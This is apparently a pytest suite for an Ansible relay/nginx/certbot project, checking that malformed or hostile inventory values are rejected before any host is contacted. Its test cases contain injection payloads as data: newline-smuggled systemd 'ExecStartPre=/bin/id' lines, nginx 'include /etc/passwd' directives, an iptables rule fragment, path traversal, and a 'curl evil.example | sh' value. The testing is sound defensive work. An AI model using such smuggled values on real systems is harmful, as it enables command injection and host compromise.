"""Bad relay input fails the whole run on the controller, before any host is touched.

The inventory's hosts point at a refused port on loopback: if any play tried to reach
them, the run would report them UNREACHABLE. Each case asserts the message names the
entry and the field, and that no host was contacted.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

REPO = Path(__file__).resolve().parents[2]


def run_site(
    tmp_path: Path, relays_by_host: dict[str, Any], extra: dict[str, Any] | None = None
) -> subprocess.CompletedProcess:
    hosts = {
        name: {"ansible_host": "127.0.0.1", "ansible_port": 1, "ansible_connection": "ssh", "port_relays": relays}
        for name, relays in relays_by_host.items()
    }
    for host in hosts.values():
        host.update(extra or {})
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": {"relays": {"hosts": hosts}}}}))
    env = dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1")
    bin_dir = Path(sys.executable).parent
    return subprocess.run(
        [str(bin_dir / "ansible-playbook"), "-i", str(inventory), "site.yml"],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


GOOD = ["50443;443;example.com;TCP"]

CASES = [
    pytest.param(
        ["70000;25;example.com;TCP"],
        ["port_relays[0]", "'70000;25;example.com;TCP'", "listen_port must be a port number 1..65535, got 70000"],
        id="port-out-of-range",
    ),
    pytest.param(
        [{"name": "web", "listen_port": 8080, "target_host": "example.com", "target_port": 0}],
        ["port_relays[0] (name 'web')", "target_port must be a port number 1..65535, got 0"],
        id="target-port-zero",
    ),
    pytest.param(
        ["50025;25;example.com;SCTP"],
        ["port_relays[0]", "protocol must be tcp or udp, got 'SCTP'"],
        id="unknown-protocol",
    ),
    pytest.param(
        ["50025;25;TCP"],
        ["port_relays[0] ('50025;25;TCP')", "must have 4 fields 'in_port;out_port;out_host;TCP|UDP', got 3"],
        id="malformed-seed-line",
    ),
    pytest.param(
        [
            "50025;25;a.example.com;TCP",
            {"name": "b", "listen_port": 50025, "target_host": "b.example.com", "target_port": 25},
        ],
        ["port_relays[1] (name 'b')", "listen_port 50025/tcp is already used by port_relays[0]"],
        id="same-port-and-protocol",
    ),
    pytest.param(
        [{"name": "nowhere", "listen_port": 8080, "target_port": 80}],
        ["port_relays[0] (name 'nowhere')", "target_host is missing"],
        id="missing-target",
    ),
]


def assert_untouched(result: subprocess.CompletedProcess) -> None:
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "UNREACHABLE" not in output, output
    assert "Gathering Facts" not in output, output


def assert_refused(result: subprocess.CompletedProcess, expected: list[str], secret: str | None = None) -> None:
    """The run stopped before any host, saying each expected part (the YAML callback may fold a long message
    over lines), without Ansible's internal type names, and without the secret."""
    assert_untouched(result)
    output = result.stdout + result.stderr
    flowing = " ".join(output.split())
    for part in expected:
        assert part in output or part in flowing, f"{part!r} missing from:\n{output}"
    assert "_AnsibleTagged" not in output, output
    if secret:
        assert secret not in output, output


@pytest.mark.parametrize(("relays", "expected"), CASES)
def test_bad_relay_fails_before_any_host_is_touched(tmp_path: Path, relays: list[Any], expected: list[str]) -> None:
    result = run_site(tmp_path, {"relay-bad": relays, "relay-good": GOOD})
    assert_untouched(result)
    output = result.stdout + result.stderr
    for part in expected:
        assert part in output, f"{part!r} missing from:\n{output}"


def test_bad_option_type_fails_before_any_host_is_touched(tmp_path: Path) -> None:
    result = run_site(tmp_path, {"relay-bad": GOOD}, extra={"port_relay_connect_timeout": "soon"})
    assert_untouched(result)
    output = result.stdout + result.stderr
    assert "port_relay_connect_timeout" in output and "int" in output, output


# Values of the right type that socat, the kernel or systemd would refuse (or be injected by) on the
# host, mid-run: each fails here, named by its inventory variable.
OPTION_VALUE_CASES = [
    ({"port_relay_keepalive_idle": 0}, ["port_relay_keepalive_idle must be 1 to 32767 seconds, got 0"]),
    ({"port_relay_connect_timeout": -1}, ["port_relay_connect_timeout must be 1 to 3600 seconds, got -1"]),
    ({"port_relay_keepalive_count": 1000}, ["port_relay_keepalive_count must be 1 to 127 probes, got 1000"]),
    ({"port_relay_max_connections": -5}, ["port_relay_max_connections must be 0 to 1000000"]),
    ({"port_relay_health_check_interval": 1}, ["port_relay_health_check_interval must be 10 to 86400 seconds"]),
    ({"port_relay_firewall_ssh_port": 70000}, ["port_relay_firewall_ssh_port must be 1 to 65535"]),
    # A newline would add a line (ExecStartPre=...) to every relay unit; % is a systemd specifier.
    ({"port_relay_log_file": "/var/log/r.log\nExecStartPre=/bin/id"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/%n.log"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/$HOME"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/a;b"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": '/var/log/a"b'}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/a}b"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "/var/log/../../etc/passwd"}, ["port_relay_log_file must be an absolute path"]),
    ({"port_relay_log_file": "relay.log"}, ["port_relay_log_file must be an absolute path"]),
    # Two at once: both named.
    (
        {"port_relay_keepalive_interval": 0, "port_relay_backlog": 0},
        ["port_relay_keepalive_interval must be 1 to 32767", "port_relay_backlog must be 1 to 65535"],
    ),
]


@pytest.mark.parametrize(("extra", "expected"), OPTION_VALUE_CASES)
def test_bad_option_value_fails_before_any_host_is_touched(
    tmp_path: Path, extra: dict[str, Any], expected: list[str]
) -> None:
    result = run_site(tmp_path, {"relay-bad": GOOD}, extra=extra)
    assert_untouched(result)
    output = result.stdout + result.stderr
    for part in expected:
        assert part in output, f"{part!r} missing from:\n{output}"
    assert "_AnsibleTagged" not in output, output


def test_good_input_does_try_the_hosts(tmp_path: Path) -> None:
    """The control case: with valid input the run goes on and reaches for the (refusing) hosts."""
    result = run_site(tmp_path, {"relay-good": GOOD})
    assert result.returncode != 0
    assert "UNREACHABLE" in result.stdout + result.stderr


def test_the_example_site_validates() -> None:
    """The inventory a user copies passes validation (hosts forced to a refused loopback port)."""
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "ansible-playbook"),
            "-i",
            "inventories/example/hosts.yml",
            "playbooks/validate.yml",
            # The secrets a user puts in the vault, as the example spells them.
            "-e",
            "@inventories/example/group_vars/all/vault.yml.example",
            "-e",
            "ansible_host=127.0.0.1",
            "-e",
            "ansible_port=1",
        ],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_NOCOLOR="1"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "UNREACHABLE" not in output


def run_site_edge(tmp_path: Path, host_vars: dict[str, Any], playbook: str = "site.yml") -> subprocess.CompletedProcess:
    """site.yml (or another playbook) with one VPS host (refused loopback port) carrying these variables."""
    host = {"ansible_host": "127.0.0.1", "ansible_port": 1, "ansible_connection": "ssh", **host_vars}
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"children": {"vps": {"hosts": {"vps-bad": host}}}}}))
    return subprocess.run(
        [str(Path(sys.executable).parent / "ansible-playbook"), "-i", str(inventory), playbook],
        cwd=REPO,
        env=dict(os.environ, ANSIBLE_FORCE_COLOR="0", ANSIBLE_NOCOLOR="1"),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


EDGE_CASES = [
    pytest.param(
        {"certbot_certificates": [{"name": "www", "domains": ["*.example.com"]}]},
        ["certbot_certificates[0] (name 'www')", "*.example.com is a wildcard, which only challenge dns-01 can prove"],
        id="wildcard-over-http-01",
    ),
    pytest.param(
        {"certbot_certificates": [{"name": "nas", "domains": ["nas.example.com"], "challenge": "dns-01"}]},
        ["certbot_certificates[0] (name 'nas')", "challenge dns-01 needs certbot_cloudflare_api_token"],
        id="dns-01-without-token",
    ),
    pytest.param(
        {"certbot_certificates": [{"name": "www", "domains": ["bad_host name"]}]},
        ["certbot_certificates[0] (name 'www')", "is not a valid DNS name"],
        id="domain-not-a-dns-name",
    ),
    pytest.param(
        {"certbot_key_type": "dsa"},
        ["certbot_key_type", "ecdsa", "rsa"],
        id="key-type-not-a-choice",
    ),
    pytest.param(
        {"nginx_stack_https_port": "https"},
        ["nginx_stack_https_port", "int"],
        id="https-port-not-a-number",
    ),
]


@pytest.mark.parametrize(("host_vars", "expected"), EDGE_CASES)
def test_bad_edge_input_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected)


def test_good_edge_input_passes_validation(tmp_path: Path) -> None:
    """The control case: valid certificates pass validate.yml (validate.yml alone: site.yml goes on to the VPS)."""
    result = run_site_edge(
        tmp_path,
        {
            "certbot_certificates": [
                {"name": "www", "domains": ["www.example.com"]},
                {"name": "lan", "domains": ["*.lan.example.com"], "challenge": "dns-01"},
            ],
            "certbot_cloudflare_api_token": "token-for-a-test",
        },
        playbook="playbooks/validate.yml",
    )
    output = result.stdout + result.stderr
    assert "Validate certbot_certificates" in output, output
    assert "token-for-a-test" not in output, output
    assert "FAILED" not in output, output


# --- Relay46 (relay46_* variables of the vps and nas groups) ------------------------------------------------

RELAY46_TOKEN = "cf-bad-input-token-0123456789"
RELAY46_SERVICES = [
    {"name": "web-panel", "domain": "panel.example.com", "backend_port": 5666, "websocket": True},
    {"name": "router", "domain": "router.example.com", "backend_port": 8082, "local_backend": "192.168.0.2:80"},
]
RELAY46_TCP = [{"name": "ssh", "listen_port": 2222, "backend_port": 22}]


def relay46(services: Any = None, tcp: Any = None, cloudflare: Any = None, **more: Any) -> dict[str, Any]:
    """A good Relay46 site's variables, with the given parts replaced."""
    return {
        "relay46_services": RELAY46_SERVICES if services is None else services,
        "relay46_tcp_services": RELAY46_TCP if tcp is None else tcp,
        "relay46_https_port": 8444,
        "relay46_cloudflare": cloudflare or {"enabled": False},
        **more,
    }


RELAY46_CASES = [
    pytest.param(
        relay46(services=[*RELAY46_SERVICES, {"name": "panel2", "domain": "panel.example.com", "backend_port": 5667}]),
        [
            "relay46_services[2] (name 'panel2'): domain panel.example.com is already used by relay46_services[0] "
            "(name 'web-panel')"
        ],
        id="two-services-on-one-domain",
    ),
    pytest.param(
        relay46(tcp=[*RELAY46_TCP, {"name": "db", "listen_port": 2222, "backend_port": 3306}]),
        [
            "relay46_tcp_services[1] (name 'db'): listen_port 2222 is already used by "
            "relay46_tcp_services[0] (name 'ssh')"
        ],
        id="tcp-listen-port-clash",
    ),
    pytest.param(
        relay46(tcp=[*RELAY46_TCP, {"name": "web", "listen_port": 8444, "backend_port": 8080}]),
        ["relay46_tcp_services[1] (name 'web'): listen_port 8444 is already used by relay46_https_port"],
        id="tcp-listen-port-on-the-https-port",
    ),
    pytest.param(
        relay46(services=[{"name": "web-panel", "domain": "panel.example.com", "backend_port": 70000}]),
        ["relay46_services[0] (name 'web-panel'): backend_port must be a port number 1..65535, got 70000"],
        id="port-out-of-range",
    ),
    pytest.param(
        relay46(relay46_https_port=0),
        ["relay46_https_port must be a port number 1..65535, got 0"],
        id="https-port-out-of-range",
    ),
    pytest.param(
        relay46(services=[{"name": "router", "domain": "r.example.com", "backend_port": 8082, "local_backend": "lan"}]),
        ["relay46_services[0] (name 'router'): local_backend must be host:port"],
        id="local-backend-not-host-port",
    ),
    pytest.param(
        relay46(cloudflare={"enabled": True, "zone_id": "0123456789abcdef0123456789abcdef"}),
        ["relay46_cloudflare: enabled is true but api_token is missing or empty"],
        id="cloudflare-without-token",
    ),
    pytest.param(
        relay46(cloudflare={"enabled": True, "api_token": RELAY46_TOKEN}),
        ["relay46_cloudflare: enabled is true but zone_id is missing or empty"],
        id="cloudflare-without-zone-id",
    ),
    pytest.param(
        relay46(services=[{"name": "web", "domain": "www.example.com", "backend_port": 80, "websockets": True}]),
        ["relay46_services[0] (name 'web'): unknown field 'websockets'"],
        id="unknown-field",
    ),
]


# Issue 13, item 6: single values that reach nginx.conf, unit files, the timer, iptables rules and
# the programs' configuration: refused before any host is touched, naming the variable.
RENDERED_VALUE_CASES = [
    pytest.param(
        relay46(relay46_vps_resolver="198.18.0.53;\n    include /etc/passwd"),
        ["relay46_vps_resolver must be DNS server addresses separated by spaces"],
        id="resolver-injects-a-directive",
    ),
    pytest.param(
        relay46(relay46_vps_resolver="198.18.0.53 valid=1s"),
        ["relay46_vps_resolver must be DNS server addresses"],
        id="resolver-with-a-parameter",
    ),
    pytest.param(
        relay46(relay46_vps_ipv4="vps.example.com"),
        ["relay46_vps_ipv4 must be an IPv4 address"],
        id="vps-ipv4-a-name",
    ),
    pytest.param(
        relay46(relay46_vps_ipv6="fd00::40}"),
        ["relay46_vps_ipv6 must be an IPv6 address"],
        id="vps-ipv6-brace",
    ),
    pytest.param(
        relay46(relay46_nas_name="nas.example.com\n"),
        ["relay46_nas_name must be a DNS name"],
        id="nas-name-trailing-newline",
    ),
    pytest.param(
        relay46(relay46_nas_relay_allow=["192.168.0.0/24", "0/0 -j ACCEPT"]),
        ["relay46_nas_relay_allow[1] must be an IP address or network"],
        id="relay-allow-rule-text",
    ),
    pytest.param(
        relay46(relay46_cloudflare_api_url="https://api.example.com/v4\nCLOUDFLARE_API_TOKEN=x"),
        ["relay46_cloudflare_api_url must be an http:// or https:// URL"],
        id="api-url-adds-an-env-line",
    ),
    pytest.param(
        relay46(certbot_renew_on_calendar="daily\n[Service]\nExecStart=/bin/id"),
        ["certbot_renew_on_calendar must be a systemd calendar event"],
        id="timer-calendar-adds-a-section",
    ),
    pytest.param(
        relay46(certbot_renew_randomized_delay="1h$x"),
        ["certbot_renew_randomized_delay must be a systemd time span"],
        id="timer-delay-dollar",
    ),
    pytest.param(
        relay46(nginx_stack_resolver_valid="10s; include /etc/passwd"),
        ["nginx_stack_resolver_valid must be an nginx time"],
        id="resolver-valid-semicolon",
    ),
    pytest.param(
        relay46(docker_engine_http_proxy='http://proxy:3128"\nExecStartPre=/bin/id'),
        ["docker_engine_http_proxy must be an http:// proxy URL"],
        id="proxy-adds-a-unit-line",
    ),
    pytest.param(
        relay46(docker_engine_http_proxy="http://user:50%off@proxy:3128"),
        ["docker_engine_http_proxy must be an http:// proxy URL"],
        id="proxy-percent-specifier",
    ),
    pytest.param(
        relay46(certbot_image="certbot/certbot; curl evil.example | sh"),
        ["certbot_image must be a Docker image reference"],
        id="image-into-the-wrapper-script",
    ),
    pytest.param(
        relay46(nginx_stack_certs_dir="/opt/certs:/etc/shadow"),
        ["nginx_stack_certs_dir must be an absolute path"],
        id="certs-dir-adds-a-mount",
    ),
    pytest.param(
        relay46(docker_engine_no_proxy="localhost;x"),
        ["docker_engine_no_proxy must be host names, addresses and networks separated by commas"],
        id="no-proxy-semicolon",
    ),
]


@pytest.mark.parametrize(("host_vars", "expected"), RENDERED_VALUE_CASES)
def test_bad_rendered_value_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected)


@pytest.mark.parametrize(("host_vars", "expected"), RELAY46_CASES)
def test_bad_relay46_input_fails_before_any_host_is_touched(
    tmp_path: Path, host_vars: dict[str, Any], expected: list[str]
) -> None:
    assert_refused(run_site_edge(tmp_path, host_vars), expected, secret=RELAY46_TOKEN)


def test_good_relay46_input_passes_validation(tmp_path: Path) -> None:
    """The control case: the seed's services, Cloudflare enabled, pass validate.yml without showing the token
    (validate.yml alone: site.yml goes on to the hosts' plays)."""
    cloudflare = {"enabled": True, "api_token": RELAY46_TOKEN, "zone_id": "0123456789abcdef0123456789abcdef"}
    result = run_site_edge(tmp_path, relay46(cloudflare=cloudflare), playbook="playbooks/validate.yml")
    output = result.stdout + result.stderr
    assert result.returncode == 0, output
    assert "Validate the Relay46 services" in output, output
    assert RELAY46_TOKEN not in output, output
    assert "UNREACHABLE" not in output, output
